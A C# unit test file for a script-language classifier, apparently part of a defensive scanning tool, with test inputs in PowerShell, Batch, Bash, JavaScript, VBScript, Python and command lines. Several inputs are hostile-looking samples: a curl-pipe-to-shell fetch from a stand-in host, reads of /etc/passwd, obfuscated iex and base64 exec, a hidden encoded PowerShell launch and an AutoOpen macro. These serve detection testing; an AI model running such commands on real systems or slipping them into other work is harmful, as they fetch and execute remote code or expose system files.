using Redoubt.Scripts.Clearing;

namespace Redoubt.Scripts.Tests.Clearing;

/// <summary>The language of a text is recognised by many signs.</summary>
public sealed class LanguageClassifierTests
{
    [Theory]
    [InlineData(ScriptLanguage.PowerShell, "Get-ChildItem C:\\logs | Where-Object { $_.Length -gt 5 }")]
    [InlineData(ScriptLanguage.PowerShell, "$x = 'a' + 'b'; iex $x")]
    [InlineData(ScriptLanguage.PowerShell, "[Convert]::FromBase64String('QUJD')")]
    [InlineData(ScriptLanguage.PowerShell, "&('i'+'ex') ('{1}{0}' -f 'b','a')")]
    [InlineData(ScriptLanguage.PowerShell, "wRi`Te-h`oSt 'x'")]
    [InlineData(ScriptLanguage.Batch, "@echo off\r\nset a=1\r\nif defined a goto end\r\n:end")]
    [InlineData(ScriptLanguage.Batch, "set \"q=ca\"\r\n%q%lc.exe")]
    [InlineData(ScriptLanguage.Batch, "for /f \"tokens=1\" %%a in ('ver') do echo %%a")]
    [InlineData(ScriptLanguage.Batch, "tasklist | findstr lsass > out.txt & del out.txt")]
    [InlineData(ScriptLanguage.Bash, "#!/usr/bin/env bash\necho hi")]
    [InlineData(ScriptLanguage.Bash, "curl -fsSL http://h.test/x.sh | sh")]
    [InlineData(ScriptLanguage.Bash, "if [ -f /etc/passwd ]; then cat /etc/passwd; fi")]
    [InlineData(ScriptLanguage.Bash, "a='x y';eval \"${a:0:1}${a:2:1}\"")]
    [InlineData(ScriptLanguage.Bash, "python3 -c 'import os; os.system(\"id\")'")]
    [InlineData(ScriptLanguage.JavaScript, "var a = new ActiveXObject(\"WScript.Shell\"); a.Run('calc');")]
    [InlineData(ScriptLanguage.JavaScript, "const f = (x) => x + 1;\nconsole.log(f(2));")]
    [InlineData(ScriptLanguage.JavaScript, "(function(){ return this; })();")]
    [InlineData(ScriptLanguage.JavaScript, "[][(![]+[])[+[]]+(!![]+[])[+!+[]]]")]
    [InlineData(ScriptLanguage.VisualBasic, "Dim x\nSet x = CreateObject(\"WScript.Shell\")\nx.Run \"calc\"")]
    [InlineData(ScriptLanguage.VisualBasic, "Sub AutoOpen()\n  Shell \"calc\"\nEnd Sub")]
    [InlineData(ScriptLanguage.VisualBasic, "a = Chr(65) & Chr(66)\nExecute a")]
    [InlineData(ScriptLanguage.VisualBasic, "#@~^AAAAAA==x^#~@")]
    [InlineData(ScriptLanguage.Python, "import os\nos.system('id')")]
    [InlineData(ScriptLanguage.Python, "def f(x):\n    return x\nprint(f(1))")]
    [InlineData(ScriptLanguage.Python, "exec(__import__('base64').b64decode('cHJpbnQoMSk='))")]
    [InlineData(ScriptLanguage.CommandLine, "\"C:\\Program Files\\App\\app.exe\" /quiet")]
    [InlineData(ScriptLanguage.CommandLine, "rundll32.exe shell32.dll,Control_RunDLL x.cpl")]
    [InlineData(ScriptLanguage.CommandLine, "powershell -nop -w hidden -enc SQBFAFgA")]
    [InlineData(ScriptLanguage.CommandLine, "reg add HKCU\\Software\\A /v B /d C /f")]
    [InlineData(ScriptLanguage.Unknown, "{ \"name\": \"a\", \"version\": 1 }")]
    [InlineData(ScriptLanguage.Unknown, "<?xml version=\"1.0\"?><a><b>c</b></a>")]
    [InlineData(ScriptLanguage.Unknown, "name,age,city\nann,31,Bonn\nbob,44,Rome")]
    [InlineData(ScriptLanguage.Unknown, "Dear all, please find attached the minutes of our meeting from last Monday.")]
    [InlineData(ScriptLanguage.Unknown, "")]
    public void Texts_are_recognised(ScriptLanguage expected, string text) => LanguageClassifier.Classify(text, new ScriptHints()).ShouldBe(expected);

    [Theory]
    [InlineData(ScriptLanguage.PowerShell, "a.ps1")]
    [InlineData(ScriptLanguage.JavaScript, "C:\\x\\a.js")]
    [InlineData(ScriptLanguage.VisualBasic, "a.VBS")]
    [InlineData(ScriptLanguage.Python, "/tmp/a.py")]
    public void A_name_decides_where_the_text_does_not(ScriptLanguage expected, string name) => LanguageClassifier.Classify("x = 1", new ScriptHints(FileName: name)).ShouldBe(expected);

    [Fact]
    public void The_starting_program_counts() => LanguageClassifier.Classify("x = 1", new ScriptHints(ParentImage: @"C:\Python\python.exe")).ShouldBe(ScriptLanguage.Python);
}
